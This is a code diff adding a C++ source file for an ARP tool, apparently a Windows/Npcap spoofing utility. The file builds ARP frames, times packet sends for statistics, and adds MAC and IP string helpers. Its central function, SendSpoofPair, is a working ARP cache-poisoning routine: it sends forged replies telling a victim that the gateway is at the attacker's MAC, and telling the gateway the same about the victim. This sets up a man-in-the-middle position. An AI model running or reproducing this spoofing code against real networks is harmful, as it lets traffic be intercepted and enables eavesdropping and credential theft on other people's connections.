@@ -0,0 +1,89 @@
+#include "arp_frame.h"
+#include "arp.h"
+#include "arp_stats.h"
+#include "device_table.h"
+#include "packet_io.h"
+#include <chrono>
+#include <cstring>
+
+static inline uint16_t HostToNet16(uint16_t value) {
+    const uint8_t bytes[2] = { static_cast<uint8_t>(value >> 8), static_cast<uint8_t>(value & 0xFF) };
+    uint16_t result;
+    memcpy(&result, bytes, sizeof(result));
+    return result;
+}
+
+static inline void FillArpHeader(ArpFrame& frame, uint16_t operation) {
+    frame.eth.ethertype = HostToNet16(0x0806);     // ARP
+    frame.arp.hardware_type = HostToNet16(1);      // Ethernet
+    frame.arp.protocol_type = HostToNet16(0x0800); // IPv4
+    frame.arp.hardware_len = 6;
+    frame.arp.protocol_len = 4;
+    frame.arp.operation = HostToNet16(operation);
+}
+
+void BuildArpRequest(ArpFrame& frame, const uint8_t* sender_mac, const uint8_t* sender_ip,
+                     const uint8_t* target_ip) {
+    memset(frame.eth.dest_mac, 0xFF, 6); // Broadcast MAC
+    memcpy(frame.eth.src_mac, sender_mac, 6);
+    FillArpHeader(frame, 1);              // Request
+    memcpy(frame.arp.sender_mac, sender_mac, 6);
+    memcpy(frame.arp.sender_ip, sender_ip, 4);
+    memset(frame.arp.target_mac, 0, 6);  // Unknown
+    memcpy(frame.arp.target_ip, target_ip, 4);
+}
+
+void BuildArpReply(ArpFrame& frame, const uint8_t* sender_mac, const uint8_t* sender_ip,
+                   const uint8_t* target_mac, const uint8_t* target_ip) {
+    memcpy(frame.eth.dest_mac, target_mac, 6);
+    memcpy(frame.eth.src_mac, sender_mac, 6);
+    FillArpHeader(frame, 2);              // Reply
+    memcpy(frame.arp.sender_mac, sender_mac, 6);
+    memcpy(frame.arp.sender_ip, sender_ip, 4);
+    memcpy(frame.arp.target_mac, target_mac, 6);
+    memcpy(frame.arp.target_ip, target_ip, 4);
+}
+
+static bool SendTimed(PacketIO& io, const ArpFrame& frame) {
+    auto start_time = std::chrono::steady_clock::now();
+    bool success = io.send(reinterpret_cast<const uint8_t*>(&frame), sizeof(ArpFrame));
+    auto duration = std::chrono::duration_cast<std::chrono::nanoseconds>(
+        std::chrono::steady_clock::now() - start_time);
+    GetArpStats().recordSend(static_cast<uint64_t>(duration.count()), success);
+    return success;
+}
+
+bool SendSpoofPair(PacketIO& io, ArpFrame& scratch, const SpoofEndpoints& local,
+                   const uint8_t* target_ip, const uint8_t* target_mac) {
+    // 1. Tell victim that gateway IP is at our MAC
+    BuildArpReply(scratch, local.our_mac, local.gateway_ip, target_mac, target_ip);
+    bool success1 = SendTimed(io, scratch);
+
+    // 2. Tell gateway that victim IP is at our MAC
+    BuildArpReply(scratch, local.our_mac, target_ip, local.gateway_mac, local.gateway_ip);
+    bool success2 = SendTimed(io, scratch);
+
+    return success1 && success2;
+}
+
+// ArpManager's string helpers live here rather than in arp.cpp so they build
+// without the Windows/Npcap stack (see bench/)
+std::string ArpManager::macToString(const uint8_t* mac) {
+    char buffer[18];
+    FormatMac(mac, buffer);
+    return std::string(buffer, 17);
+}
+
+bool ArpManager::stringToMac(const std::string& mac_str, uint8_t* mac) {
+    return ParseMac(mac_str, mac);
+}
+
+bool ArpManager::stringToIp(const std::string& ip_str, uint8_t* ip) {
+    return ParseIpv4(ip_str, ip);
+}
+
+std::string ArpManager::ipToString(const uint8_t* ip) {
+    char buffer[16];
+    FormatIpv4(ip, buffer);
+    return std::string(buffer);
+}